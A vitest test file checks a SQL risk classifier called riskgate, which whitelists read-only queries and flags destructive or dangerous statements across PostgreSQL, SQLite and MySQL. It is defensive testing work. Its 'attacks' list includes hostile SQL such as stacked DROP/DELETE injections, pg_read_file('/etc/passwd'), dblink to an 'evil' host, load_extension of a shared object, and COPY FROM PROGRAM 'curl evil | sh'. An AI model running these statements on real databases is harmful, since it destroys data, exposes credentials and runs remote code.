import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTempSqlite, judgeSql as assessSql, type TempSqlite } from './helpers.js';

let shop: TempSqlite;
let sqlite: Database.Database;
beforeAll(() => {
  shop = createTempSqlite();
  sqlite = new Database(shop.path);
});
afterAll(() => {
  sqlite.close();
  shop.cleanup();
});

/** Every way riskgate can judge a statement: PostgreSQL's grammar, SQLite with and without a database. */
const judges = {
  postgres: (sql: string) => assessSql(sql, { dialect: 'postgres' }),
  'sqlite (database)': (sql: string) => assessSql(sql, { dialect: 'sqlite', sqlite }),
  'sqlite (no database)': (sql: string) => assessSql(sql, { dialect: 'sqlite' }),
} as const;
type Judge = keyof typeof judges;
const ALL: Judge[] = ['postgres', 'sqlite (database)', 'sqlite (no database)'];

describe('the SQL whitelist (SELECT, SHOW, DESCRIBE, EXPLAIN) made sound', () => {
  const reads: [string, Judge[]][] = [
    ['SELECT * FROM orders', ALL],
    ["select id, total_cents from orders where status = 'paid' order by id limit 2", ALL],
    ['SELECT count(*) FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY c.name', ALL],
    ["WITH paid AS (SELECT * FROM orders WHERE status = 'paid') SELECT sum(total_cents) FROM paid", ALL],
    ['VALUES (1, 2), (3, 4)', ALL],
    ['SELECT 1; SELECT 2', ALL],
    ['/* report */ SELECT -- the total\n sum(total_cents) FROM orders;', ALL],
    ['SeLeCt * FrOm "orders"', ALL],
    ['EXPLAIN SELECT * FROM orders', ALL],
    ["EXPLAIN QUERY PLAN SELECT * FROM orders WHERE status = 'paid'", ['sqlite (database)']],
    ['EXPLAIN ANALYZE SELECT * FROM orders', ['postgres']],
    ['TABLE orders', ['postgres']],
    ['SHOW search_path', ['postgres']],
    ["SELECT 'DROP TABLE orders; --' AS trick", ALL],
    ['SELECT $$; DELETE FROM orders; $$', ['postgres']],
    ['PRAGMA table_info(orders)', ['sqlite (database)', 'sqlite (no database)']],
    ['PRAGMA index_list(orders)', ['sqlite (database)', 'sqlite (no database)']],
    ['PRAGMA user_version', ['sqlite (database)', 'sqlite (no database)']],
    ['SELECT * FROM [orders]', ['sqlite (database)']],
    ['SELECT * FROM `orders`', ['sqlite (database)']],
  ];
  for (const [sql, who] of reads) {
    it.each(who)(`whitelists %s: ${JSON.stringify(sql)}`, async (judge) => {
      const assessment = await judges[judge](sql);
      expect(assessment.whitelisted).toBe(true);
      expect(assessment.level).toBe('low');
    });
  }
  it.each([
    ['SHOW TABLES'],
    ['DESCRIBE orders'],
    ['DESC orders'],
    ['SHOW CREATE TABLE orders'],
  ])('whitelists MySQL %s', async (sql) => {
    expect((await assessSql(sql, { dialect: 'mysql' })).whitelisted).toBe(true);
  });
});

describe('attacks: never whitelisted, whatever they start with', () => {
  const attacks: [string, RegExp, Judge[]][] = [
    ['SELECT 1; DROP TABLE orders', /DROP TABLE removes orders/, ALL],
    ['SELECT * FROM orders;DELETE FROM orders', /DELETE without WHERE removes every row of orders/, ALL],
    ["SELECT 1;\nUPDATE orders SET status = 'x'", /UPDATE without WHERE changes every row of orders/, ALL],
    ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', /data-modifying WITH/, ['postgres']],
    ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', /./, ['sqlite (database)', 'sqlite (no database)']],
    ['EXPLAIN ANALYZE DELETE FROM orders', /EXPLAIN ANALYZE executes/, ['postgres']],
    ['EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total_cents = 0', /EXPLAIN ANALYZE executes/, ['postgres']],
    ['EXPLAIN (ANALYZE true) DELETE FROM orders', /EXPLAIN ANALYZE executes/, ['postgres']],
    ['EXPLAIN (ANALYZE on) DELETE FROM orders', /EXPLAIN ANALYZE executes/, ['postgres']],
    ['EXPLAIN (ANALYZE 1) DELETE FROM orders', /EXPLAIN ANALYZE executes/, ['postgres']],
    ['EXPLAIN (ANALYZE false) DELETE FROM orders', /only plans it/, ['postgres']],
    ['EXPLAIN (ANALYZE off) DELETE FROM orders', /only plans it/, ['postgres']],
    ['EXPLAIN (ANALYZE 0) DELETE FROM orders', /only plans it/, ['postgres']],
    ['SELECT * INTO copy_of_orders FROM orders', /SELECT … INTO creates/, ['postgres']],
    ['SELECT * FROM orders FOR UPDATE', /locks rows/, ['postgres']],
    ['SELECT * FROM orders FOR SHARE', /locks rows/, ['postgres']],
    ['SELECT pg_terminate_backend(1234)', /pg_terminate_backend/, ['postgres', 'sqlite (no database)']],
    ['SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity', /pg_terminate_backend/, ['postgres']],
    ["SELECT set_config('statement_timeout', '0', false)", /set_config/, ['postgres']],
    ["SELECT nextval('orders_id_seq')", /nextval/, ['postgres']],
    ["SELECT lo_export(1234, '/tmp/x')", /lo_export/, ['postgres']],
    ["SELECT pg_read_file('/etc/passwd')", /pg_read_file/, ['postgres']],
    ["SELECT * FROM dblink('host=evil', 'DELETE FROM t') AS t(x int)", /dblink/, ['postgres']],
    ["SELECT dblink_exec('host=evil', 'DROP TABLE t')", /dblink_exec/, ['postgres']],
    ["SELECT query_to_xml('DELETE FROM orders RETURNING *', true, true, '')", /query_to_xml/, ['postgres']],
    ["SELECT (SELECT nextval('s')) AS hidden", /nextval/, ['postgres']],
    ["SELECT load_extension('/tmp/evil.so')", /load_extension/, ['sqlite (database)', 'sqlite (no database)']],
    ["SELECT writefile('/tmp/x', 'y')", /writefile/, ['sqlite (database)', 'sqlite (no database)']],
    ["COPY orders TO '/tmp/orders.csv'", /writes the server file/, ['postgres']],
    ["COPY orders FROM PROGRAM 'curl evil | sh'", /PROGRAM runs a shell command/, ['postgres']],
    ['COPY (SELECT 1) TO STDOUT', /COPY/, ['postgres']],
    ["ATTACH DATABASE '/tmp/other.db' AS other", /ATTACH/, ['sqlite (database)', 'sqlite (no database)']],
    ['DETACH DATABASE other', /DETACH/, ['sqlite (database)', 'sqlite (no database)']],
    ['PRAGMA journal_mode = WAL', /changes a setting/, ['sqlite (database)', 'sqlite (no database)']],
    ['PRAGMA writable_schema = ON', /writable_schema/, ['sqlite (database)', 'sqlite (no database)']],
    ['PRAGMA foreign_keys = OFF', /changes a setting/, ['sqlite (database)', 'sqlite (no database)']],
    ['PRAGMA user_version(7)', /changes a setting/, ['sqlite (database)', 'sqlite (no database)']],
    ['BEGIN', /transaction control/, ALL],
    ['COMMIT', /transaction control/, ALL],
    ['ROLLBACK', /transaction control/, ALL],
    ['SAVEPOINT a', /transaction control/, ALL],
    ['SELECT 1; BEGIN; DELETE FROM orders; COMMIT', /DELETE without WHERE/, ALL],
    ['SELEC * FROM orders', /parse|prepare|checked/, ALL],
    ["SELECT 'unterminated", /unterminated string/, ALL],
    ['SELECT 1 /* unterminated comment', /unterminated/, ['postgres']],
    ['DROP TABLE orders', /DROP TABLE removes orders and all its rows/, ALL],
    ['TRUNCATE orders', /TRUNCATE removes every row of orders/, ALL],
    ['TRUNCATE TABLE orders', /TRUNCATE removes every row of orders/, ALL],
    ['ALTER TABLE orders ADD COLUMN note TEXT', /ALTER/, ALL],
    ['GRANT ALL ON orders TO public', /GRANT changes who may do what/, ['postgres']],
    ['DELETE FROM orders WHERE id = 1', /DELETE removes the rows of orders that match its WHERE/, ALL],
    ["INSERT INTO orders VALUES (9, 1, 'paid', 1)", /INSERT adds rows to orders/, ALL],
    [
      "INSERT OR REPLACE INTO orders VALUES (9, 1, 'paid', 1)",
      /adds or replaces rows of orders/,
      ['sqlite (database)', 'sqlite (no database)'],
    ],
    [
      "REPLACE INTO orders VALUES (9, 1, 'paid', 1)",
      /adds or replaces rows of orders/,
      ['sqlite (database)', 'sqlite (no database)'],
    ],
    ['CREATE TABLE t (x int)', /creates/, ALL],
    ['DO $$ BEGIN DELETE FROM orders; END $$', /DO runs a block of procedural code/, ['postgres']],
    ['SET statement_timeout = 0', /SET changes a setting/, ['postgres']],
    ['VACUUM', /./, ALL],
    ['-- only a comment', /no SQL statement/, ALL],
  ];
  for (const [sql, reason, who] of attacks) {
    it.each(who)(`does not whitelist %s: ${JSON.stringify(sql)}`, async (judge) => {
      const assessment = await judges[judge](sql);
      expect(assessment.whitelisted).toBe(false);
      expect(assessment.reasons.join('\n')).toMatch(reason);
    });
  }
});

describe('levels', () => {
  it.each([
    ['DROP TABLE orders', 'high'],
    ['TRUNCATE orders', 'high'],
    ['ALTER TABLE orders DROP COLUMN status', 'high'],
    ['GRANT SELECT ON orders TO public', 'high'],
    ['DELETE FROM orders', 'high'],
    ["UPDATE orders SET status = 'x'", 'high'],
    ['DELETE FROM orders WHERE id = 1', 'medium'],
    ["UPDATE orders SET status = 'x' WHERE id = 1", 'medium'],
    ["INSERT INTO orders VALUES (9, 1, 'paid', 1)", 'medium'],
    ['SELECT 1; DROP TABLE orders', 'high'],
    ['SELECT * FROM orders', 'low'],
  ] as const)('%s is %s', async (sql, level) => {
    expect((await assessSql(sql, { dialect: 'postgres' })).level).toBe(level);
    expect((await assessSql(sql, { dialect: 'sqlite', sqlite })).level).toBe(level);
  });
});

describe('subjects for rules', () => {
  it('are one per statement, without comments, with whitespace collapsed', async () => {
    const assessment = await assessSql('SELECT  id\n FROM orders /* x */ ; -- y\n DELETE FROM orders', {
      dialect: 'postgres',
    });
    expect(assessment.subjects).toEqual(['SELECT id FROM orders', 'DELETE FROM orders']);
  });

  it('keep the original spacing of punctuation', async () => {
    expect((await assessSql('PRAGMA table_info(orders)', { dialect: 'sqlite' })).subjects).toEqual([
      'PRAGMA table_info(orders)',
    ]);
  });
});

describe('SQLite own verdict (Statement.readonly)', () => {
  it('does not whitelist what SQLite cannot prepare against this database', async () => {
    const assessment = await assessSql('SELECT * FROM no_such_table', { dialect: 'sqlite', sqlite });
    expect(assessment.whitelisted).toBe(false);
    expect(assessment.reasons.join()).toMatch(/no such table/);
  });

  it('uses SQLite syntax the PostgreSQL grammar does not know', async () => {
    const assessment = await assessSql("SELECT * FROM orders WHERE status GLOB 'p*' LIMIT 1, 2", {
      dialect: 'sqlite',
      sqlite,
    });
    expect(assessment.whitelisted).toBe(true);
  });
});

describe('SQLite columns whose names say secret (red team, round 3)', () => {
  let accounts: TempSqlite;
  let database: Database.Database;
  beforeAll(() => {
    accounts = createTempSqlite();
    database = new Database(accounts.path);
    database.exec(
      "CREATE TABLE accounts (id INTEGER, email TEXT, password TEXT, api_token TEXT); INSERT INTO accounts VALUES (1, 'bob@example.com', 'Hunter2-Sq1', 'tok-8812ab')",
    );
    database.exec('CREATE TABLE stats (id INTEGER, token_count INTEGER, key_name TEXT)');
  });
  afterAll(() => {
    database.close();
    accounts.cleanup();
  });
  const judge = (sql: string) => assessSql(sql, { dialect: 'sqlite', sqlite: database });

  it.each([
    'SELECT password FROM accounts',
    'SELECT password AS p FROM accounts',
    'SELECT hex(password) FROM accounts',
    "SELECT email || ':' || password FROM accounts",
    'SELECT upper("api_token") FROM accounts',
    'SELECT [Password] FROM accounts',
    'WITH x AS (SELECT api_token AS t FROM accounts) SELECT t FROM x',
    "SELECT group_concat(password, ',') FROM accounts",
  ])('%s is a secret read', async (sql) => {
    const assessment = await judge(sql);
    expect(assessment.whitelisted).toBe(false);
    expect(assessment.reasons.join('\n')).toMatch(/column (password|api_token), whose name says it holds a secret/i);
  });

  // `*` brings the credential columns under their own names: the SQL tool withholds their values
  // from the model's copy (withhold-columns.ts; core's sql-secret-columns e2e test), so it runs.
  it.each([
    'SELECT id, email FROM accounts',
    'SELECT count(*) FROM accounts',
    'SELECT * FROM stats',
    'SELECT token_count FROM stats',
    'SELECT * FROM accounts',
    'SELECT a.* FROM accounts a',
  ])('%s runs unasked', async (sql) => {
    expect((await judge(sql)).whitelisted).toBe(true);
  });
});
